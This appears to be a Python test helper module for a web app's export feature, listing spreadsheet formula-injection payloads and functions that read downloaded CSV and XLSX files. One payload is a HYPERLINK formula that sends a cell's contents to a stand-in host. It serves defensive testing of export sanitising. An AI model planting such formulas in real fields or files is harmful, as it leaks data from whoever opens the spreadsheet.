"""What an attacker types into a name or an answer to run in a spreadsheet, and how tests read
the admin's CSV and XLSX downloads."""

import csv
import io

import openpyxl

# Each starts with one of OWASP's formula characters: = + - @ tab carriage-return.
PAYLOADS = [
    '=HYPERLINK("http://x.example/?d="&A1,"Klik")',
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]


def read_csv(response) -> list[list[str]]:
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(content)))


def read_xlsx(response):
    """The first sheet of the downloaded workbook."""
    content = b"".join(response.streaming_content)
    return openpyxl.load_workbook(io.BytesIO(content)).active
